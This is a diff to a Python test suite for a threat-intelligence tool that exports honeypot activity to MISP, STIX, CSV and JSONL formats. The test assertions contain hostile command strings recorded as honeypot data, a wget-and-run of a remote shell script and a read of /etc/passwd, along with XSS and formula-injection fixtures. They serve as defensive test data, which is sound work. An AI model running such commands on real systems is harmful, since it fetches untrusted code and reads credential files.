@@ -20,7 +20,7 @@ from darkstack.schema import int_to_ip
 from darkstack.stack.predict import neighbours_path, predictions_path
 from darkstack.store import read_day
 from darkstack.workspace import Workspace
-from export_fixtures import DAYS, FORMULA, HOSTILE, MIRAI_LIKE, XSS, classified_world
+from export_fixtures import DAYS, DOWNLOAD, FORMULA, HOSTILE, LONG, MIRAI_LIKE, QUOTES, XSS, classified_world
 
 DAY = DAYS[-1]
 
@@ -62,10 +62,10 @@ def test_every_format_parses_back_with_the_same_hosts(world):
 
     event = json.loads(files["misp.json"])["Event"]
     assert {"uuid", "info", "date", "threat_level_id", "analysis", "distribution", "Attribute", "Tag"} <= set(event)
-    assert event["date"] == str(DAY) and [a["value"] for a in event["Attribute"]] == addresses
-    assert {a["type"] for a in event["Attribute"]} == {"ip-src"}
-    assert all(a["Tag"] == [{"name": f'darkstack:class="{r["class"]}"'}] for a, r in zip(event["Attribute"], lines))
-    assert [a["to_ids"] for a in event["Attribute"]] == [r["class"] == "mirai" for r in lines]
+    hosts = [a for a in event["Attribute"] if a["type"] == "ip-src"]
+    assert event["date"] == str(DAY) and [a["value"] for a in hosts] == addresses
+    assert all(a["Tag"] == [{"name": f'darkstack:class="{r["class"]}"'}] for a, r in zip(hosts, lines))
+    assert [a["to_ids"] for a in hosts] == [r["class"] == "mirai" for r in lines]
 
     bundle = stix2.parse(files["stix.json"], allow_custom=False)
     indicators = [o for o in bundle.objects if o.type == "indicator"]
@@ -73,6 +73,9 @@ def test_every_format_parses_back_with_the_same_hosts(world):
     assert [i.confidence for i in indicators] == [round(100 * p) for p in table["probability"]]
     assert [i.labels[0] for i in indicators] == table["class"].tolist()
     assert {tuple(i.indicator_types) for i in indicators} <= {("malicious-activity",), ("anomalous-activity",)}
+    notes = [o for o in bundle.objects if o.type == "note"]
+    assert len(notes) == sum(bool(line["honeypot_events"]) for line in lines)
+    assert {ref for n in notes for ref in n.object_refs} <= {i.id for i in indicators}
 
 
 def test_hosts_carry_class_deciding_base_cluster_and_store_times(world):
@@ -175,3 +178,115 @@ def test_cli_exports_each_predicted_scenario_and_says_what_it_cannot(world, caps
                      f"not computed: export scenario D, {DAY}: no predictions of this day: run `darkstack predict` first"]
     assert main(["export", "-w", str(tmp_path / "empty")]) == NOTHING_COMPUTED
     export(ws, "H", DAY)
+
+
+# --- honeypot activity -------------------------------------------------------------------------------
+
+MISP_CATEGORY_TYPES = {
+    "Targeting data": {"target-user", "target-email", "target-machine", "target-org", "target-location", "target-external", "comment", "anonymised"},
+    "Payload delivery": {"url", "text", "filename", "md5", "sha256", "user-agent", "ip-src", "comment"},
+    "Payload installation": {"text", "filename", "pattern-in-traffic", "comment"},
+    "Network activity": {"ip-src", "ip-dst", "url", "uri", "user-agent", "http-method", "text", "comment"},
+    "Other": {"comment", "text", "other"},
+}
+"""Part of MISP's category definitions (MISP's AttributesTable, ``generateCategoryDefinitions``): the types each
+category admits; the exported attributes must be among them (pymisp is not a dependency)."""
+
+
+def _expected_activity(ws, ips, top=5, length=200) -> dict[int, dict[str, list]]:
+    """The activity summary computed here from the stored events with pandas (counted after the cut)."""
+    from darkstack.store import read_events
+
+    events = read_events(ws, "honeypot", DAY).to_pandas()
+    events = events[events["src_ip"].isin(ips)]
+    picks = {"honeypot_events": events["event"], "usernames": events["username"], "passwords": events["password"],
+             "commands": events["detail"].where(events["event"] == "command"), "downloads": events["detail"].where(events["event"] == "download"),
+             "web_requests": events["detail"].where(events["event"] == "web_request")}
+    out: dict[int, dict[str, list]] = {}
+    for column, values in picks.items():
+        values = values.dropna().map(lambda v: v if len(v) <= length else v[:length] + "…")
+        frame = pd.DataFrame({"ip": events.loc[values.index, "src_ip"], "value": values})
+        for ip, group in frame.groupby("ip"):
+            counts = group["value"].value_counts().reset_index()
+            counts = counts.sort_values(["count", "value"], ascending=[False, True], kind="stable")
+            if column != "honeypot_events":
+                counts = counts.head(top)
+            out.setdefault(ip, {})[column] = [{"value": clean_text(v), "count": int(n)} for v, n in zip(counts["value"], counts["count"])]
+    return out
+
+
+def test_each_host_carries_its_honeypot_activity_of_the_day_bounded(world):
+    from darkstack.export.activity import ACTIVITY
+
+    ws, ips = world[:2]
+    table = pq.read_table(world[3][0]).to_pandas()
+    expected = _expected_activity(ws, ips)
+    for _, row in table.iterrows():
+        want = expected.get(int(row["ip"]), {})
+        assert {c: list(row[c]) for c in ACTIVITY} == {c: want.get(c, []) for c in ACTIVITY}, row["address"]
+    mirai_like = table[table["address"].isin(int_to_ip(ips[world[2] == "unknown"][-MIRAI_LIKE:]))]
+    assert all(list(d) == [{"value": DOWNLOAD, "count": 1}] for d in mirai_like["downloads"])
+    commands = [p["value"] for c in table["commands"] for p in c]
+    long = next(c for c in commands if c.startswith("echo AAA"))
+    assert len(long) == 201 and long == LONG[:200] + "…"
+    assert XSS in commands and FORMULA in commands and QUOTES in commands
+    assert "wget http://198.51.100.9/a.sh\ufffd\ufffdsh a.sh\ufffd" in commands  # CR, LF as U+FFFD
+    assert any(c.startswith("cat /etc/passwd\ufffd") and "\ud83d" not in c for c in commands)  # NUL replaced, lone surrogate gone
+
+
+def test_activity_bounds_are_options(world, capsys):
+    from darkstack.export.settings import ExportSettings
+
+    ws, ips = world[:2]
+    try:
+        export(ws, "H", DAY, ExportSettings(top_strings=1, max_string_length=16))
+        table = pq.read_table(export_dir(ws, "H", DAY) / "hosts.parquet").to_pandas()
+        expected = _expected_activity(ws, ips, top=1, length=16)
+        assert [list(c) for c in table["commands"]] == [expected.get(int(ip), {}).get("commands", []) for ip in table["ip"]]
+        assert max(len(p["value"]) for c in table["commands"] for p in c) == 17
+        assert main(["export", "-w", str(ws.root), "--top-strings", "0", "--format", "jsonl"]) == 0
+        lines = [json.loads(line) for line in (export_dir(ws, "H", DAY) / "hosts.jsonl").read_text().splitlines()]
+        assert not any(line["usernames"] or line["commands"] for line in lines) and any(line["honeypot_events"] for line in lines)
+        capsys.readouterr()
+        assert main(["export", "-w", str(ws.root), "--max-string-length", "3"]) == FAILED
+        assert "--max-string-length: Input should be greater than or equal to 16" in capsys.readouterr().err
+    finally:
+        export(ws, "H", DAY)
+
+
+def test_activity_reaches_every_format_and_parses_back(world):
+    import stix2
+
+    files = _files(world)
+    table = pq.read_table(world[3][0]).to_pandas().set_index("address")
+    rows = {r["address"]: r for r in csv.DictReader(io.StringIO(files["hosts.csv"]))}
+    for address, row in rows.items():
+        for column in ("usernames", "passwords", "commands", "downloads", "web_requests"):
+            assert (json.loads(row[column]) if row[column] else []) == [p["value"] for p in table.at[address, column]]
+        assert row["honeypot_events"] == ", ".join(f"{p['value']} {p['count']}" for p in table.at[address, "honeypot_events"])
+    lines = {line["address"]: line for line in map(json.loads, files["hosts.jsonl"].splitlines())}
+    assert all(lines[a]["commands"] == list(table.at[a, "commands"]) for a in table.index)
+
+    attributes = json.loads(files["misp.json"])["Event"]["Attribute"]
+    strings = [a for a in attributes if a["type"] != "ip-src"]
+    assert all(a["type"] in MISP_CATEGORY_TYPES[a["category"]] and a["to_ids"] is False for a in strings)
+    assert len({(a["type"], a["category"], a["value"]) for a in attributes}) == len(attributes)  # MISP refuses duplicates
+    assert len({a["uuid"] for a in attributes}) == len(attributes)
+    by_value = {(a["category"], a["value"]): a for a in strings}
+    assert by_value["Payload delivery", DOWNLOAD]["type"] == "url" and by_value["Payload delivery", "http://198.51.100.9/" + XSS]["type"] == "text"
+    root = by_value["Targeting data", "root"]
+    tried = sum(p["count"] for c in table["usernames"] for p in c if p["value"] == "root")
+    assert root["type"] == "target-user" and root["comment"].startswith(f"username tried {tried} times on the honeypots by ")
+    assert by_value["Payload installation", XSS]["comment"].endswith(f"by 1 host: {table.index[table['commands'].map(lambda c: any(p['value'] == XSS for p in c))][0]} (1)")
+
+    bundle = stix2.parse(files["stix.json"], allow_custom=False)
+    indicators = {o.id: o for o in bundle.objects if o.type == "indicator"}
+    for note in (o for o in bundle.objects if o.type == "note"):
+        address = indicators[note.object_refs[0]].name.split(":")[0]
+        assert note.abstract == f"Honeypot activity of {address} on {DAY}"
+        text = note.content.splitlines()
+        assert text[0] == "events: " + rows[address]["honeypot_events"]
+        for column in ("commands", "usernames"):
+            if len(table.at[address, column]):
+                line = next(t for t in text if t.startswith(column + ": "))
+                assert line == column + ": " + ", ".join(f"{json.dumps(p['value'], ensure_ascii=False)} ({p['count']})" for p in table.at[address, column])
